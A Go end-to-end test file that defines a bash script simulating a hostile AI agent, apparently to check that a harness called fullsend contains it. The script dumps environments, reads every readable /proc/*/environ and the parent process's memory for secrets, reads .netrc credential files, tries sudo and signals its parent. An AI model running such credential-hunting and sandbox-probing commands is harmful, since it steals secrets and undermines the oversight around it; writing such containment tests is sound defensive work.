//go:build linux

package e2e

// hostileAgent is the agent under test: it hunts for the step's tokens
// in its own environment, in the CI user's ~/.netrc, in every /proc/*/environ it can read and in the
// readable memory of its parent (fullsend), tries sudo and a signal
// (%SIGNAL%, SIGQUIT unless the test says otherwise) on its parent, writes what it found to found.txt and its work to
// agent-wrote.txt in the checkout (its working directory), and prints to
// /dev/stderr, which it reopens.
const hostileAgent = `#!/bin/bash
p=$PPID
{
echo "identity: uid=$(id -u) gid=$(id -g) groups=$(id -G) home=$HOME"
grep -E '^(NoNewPrivs|CapEff):' /proc/self/status
echo "== own environment"
env
echo "== every readable /proc/*/environ"
grep -a -H '' /proc/[0-9]*/environ 2>&1 | tr '\0' '\n'
echo "== parent $p memory"
if [ -r /proc/$p/maps ] && exec 3</proc/$p/mem; then
	exec 3<&-
	while read -r range perms _; do
		case $perms in r*) ;; *) continue ;; esac
		s=$((0x${range%-*})); e=$((0x${range#*-}))
		[ $((e - s)) -le $((16 << 20)) ] || continue
		dd if=/proc/$p/mem bs=4096 skip=$((s / 4096)) count=$(((e - s) / 4096)) 2>/dev/null
	done </proc/$p/maps | tr -c '[:print:]' '\n' | grep -a SECRET | sort -u
else
	echo "mem: denied"
fi
echo "== credential files"
cat /root/.netrc /home/*/.netrc 2>&1
echo "== sudo"
sudo -n true 2>&1
echo "sudo rc=$?"
echo "== signal"
trap 'echo "signal forwarded back"; exit 0' HUP TERM QUIT
if kill -%SIGNAL% $p 2>&1; then
	echo "kill rc=0"
	# fullsend forwards what it caught to this process group: wait for it.
	sleep 60 &
	wait $!
else
	echo "kill rc=$?"
fi
} >found.txt 2>&1
echo "hostile agent done" >/dev/stderr
echo written >agent-wrote.txt
`
